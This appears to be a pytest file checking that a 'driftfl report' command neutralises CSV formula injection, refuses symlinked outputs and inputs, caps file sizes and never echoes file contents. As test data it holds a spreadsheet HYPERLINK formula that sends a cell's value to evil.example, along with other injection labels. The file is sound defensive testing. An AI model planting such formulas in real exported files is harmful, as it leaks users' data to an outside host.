"""`driftfl report` over run directories someone else made: a label that is a formula stays text
in report.csv, no output is written through a symbolic link, no file's contents are echoed, and
a file linked to a device or larger than any run writes is refused unread. One line, exit 2,
nothing written."""

from __future__ import annotations

import csv
import json

import pytest

from driftfl.report import main as report
from driftfl.report.command import OUTPUTS, cell
from test_report import refused, write_run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def outputs(folder) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name in OUTPUTS)


@pytest.mark.parametrize("label", [FORMULA, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_label_that_a_spreadsheet_would_run_is_quoted_in_the_csv(label, tmp_path, capsys):
    write_run(tmp_path / "a", label, [0.1, 0.5])
    report([str(tmp_path)])
    with open(tmp_path / "report.csv", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][0] == "'" + label
    assert all(not c or c[0] not in "=+-@\t\r" or c.lstrip("-").replace(".", "").isdigit()
               for row in rows for c in row)


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    assert [cell(v) for v in ["-1.5", "-inf", 3, "fedavg", "=1", "- 1"]] == \
        ["-1.5", "-inf", 3, "fedavg", "'=1", "'- 1"]


@pytest.mark.parametrize("name", ["report.md", "report.csv", "report.png"])
def test_report_never_writes_through_a_symbolic_link(name, tmp_path, capsys):
    write_run(tmp_path / "runs" / "a", "fedavg", [0.1, 0.5])
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    out = tmp_path / "out"
    out.mkdir()
    (out / name).symlink_to(victim)
    err = refused(capsys, [str(tmp_path / "runs"), "--out", str(out)])
    assert f"{out / name} is a symbolic link; driftfl never writes through one" in err
    assert victim.read_text() == "keep me" and outputs(out) == [name]


@pytest.mark.parametrize("link", ["out", "linked/out"])
def test_report_never_writes_through_a_linked_out_folder(link, tmp_path, capsys, monkeypatch):
    """--out a link to a folder (or, in a relative name, under one) would put the report
    wherever the link's maker chose (issue 52): refused in one line, nothing written."""
    write_run(tmp_path / "runs" / "a", "fedavg", [0.1, 0.5])
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "out").mkdir(parents=True)
    monkeypatch.chdir(tmp_path)
    first = link.split("/")[0]
    (tmp_path / first).symlink_to(elsewhere / "out" if first == link else elsewhere)
    err = refused(capsys, [str(tmp_path / "runs"), "--out", link])
    assert f"--out {link}: {first} is a symbolic link; driftfl never writes through one" in err
    assert list((elsewhere / "out").iterdir()) == []
    err = refused(capsys, [str(tmp_path / "runs"), "--out", str(tmp_path / first)])
    assert f"{tmp_path / first} is a symbolic link" in err  # absolute: the folder itself


@pytest.mark.parametrize("name", ["config.yaml", "metrics.json", "summary.json"])
def test_a_linked_file_is_refused_and_its_target_never_echoed(name, tmp_path, capsys):
    write_run(tmp_path / "a", "fedavg", [0.1, 0.5])
    secret = tmp_path / "secret"
    secret.write_text("password: hunter2\n: [\n")
    (tmp_path / "a" / name).unlink()
    (tmp_path / "a" / name).symlink_to(secret)
    err = refused(capsys, [str(tmp_path)])
    assert f"{tmp_path / 'a' / name} is a symbolic link; driftfl reads no file" in err
    assert "hunter2" not in err and outputs(tmp_path) == []


@pytest.mark.parametrize("name", ["metrics.json", "summary.json"])
def test_a_file_linked_to_dev_zero_is_refused_unread(name, tmp_path, capsys):
    write_run(tmp_path / "a", "fedavg", [0.1, 0.5])
    (tmp_path / "a" / name).unlink()
    (tmp_path / "a" / name).symlink_to("/dev/zero")
    err = refused(capsys, [str(tmp_path)])
    assert f"{tmp_path / 'a' / name} is a symbolic link" in err and outputs(tmp_path) == []


def test_a_file_beyond_the_cap_is_refused_unread(tmp_path, capsys, monkeypatch):
    from driftfl.common import untrusted

    write_run(tmp_path / "a", "fedavg", [0.1, 0.5])
    metrics = tmp_path / "a" / "metrics.json"
    monkeypatch.setattr(untrusted.read_text, "__defaults__", (metrics.stat().st_size - 1,))
    err = refused(capsys, [str(tmp_path)])
    assert f"{metrics} holds more than" in err and outputs(tmp_path) == []


def test_a_broken_config_is_skipped_with_its_line_not_its_text(tmp_path, capsys):
    write_run(tmp_path / "a", "fedavg", [0.1, 0.5])
    write_run(tmp_path / "b", "fedavg", [0.1, 0.6], seed=1)
    (tmp_path / "b" / "config.yaml").write_text("password: hunter2\n  : [\n")
    report([str(tmp_path)])
    err = capsys.readouterr().err
    assert err == (f"driftfl report: warning: skipping {tmp_path / 'b'}: cannot read "
                   "config.yaml (not YAML: line 2)\n"), err
    (tmp_path / "b" / "config.yaml").write_text("label: fedavg\nseed: 1\n")
    (tmp_path / "b" / "metrics.json").write_text(json.dumps({"rounds": []})[:-3])
    report([str(tmp_path)])
    assert "(not JSON: line 1)" in capsys.readouterr().err
